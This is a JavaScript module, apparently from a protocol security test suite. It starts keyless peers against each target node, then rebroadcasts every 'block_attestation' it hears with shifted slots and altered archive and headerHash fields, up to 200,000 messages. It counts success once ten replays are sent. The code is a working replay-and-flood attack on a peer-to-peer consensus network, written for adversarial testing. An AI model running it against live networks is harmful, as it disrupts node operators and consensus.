// A keyless peer of each node that repeats every attestation under the next slots, and with other fields changed.
import { decodeAttestation, encodeAttestation } from "@sprtn/protocol";
import { letIn, pause, startPeer } from "./peer.mjs";

const MAX_MESSAGES = 200_000;

export const hasAttacked = ({ repeated }) => repeated >= 10;

export async function attack(target, counts, signal) {
  Object.assign(counts, { heard: 0, repeated: 0 });
  const repeat = ({ data }, node) => {
    counts.heard++;
    const attestation = decodeAttestation(data);
    const changed = [1, 2, 3, -1].map(by => ({ ...attestation, slot: Math.max(0, attestation.slot + by) }));
    changed.push({ ...attestation, archive: 1n }, { ...attestation, headerHash: 1n });
    for (const value of changed) {
      if (signal.aborted || counts.repeated >= MAX_MESSAGES) break;
      const sent = node.publish("block_attestation", encodeAttestation(value));
      void sent.then(() => counts.repeated++).catch(() => {});
    }
  };
  const nodes = await Promise.all(
    target.addresses.map(address => startPeer({ ...target, addresses: [address] }, { block_attestation: repeat })),
  );
  await Promise.all(nodes.map(node => letIn(node, signal)));
  while (!signal.aborted) await pause(60_000, signal);
}
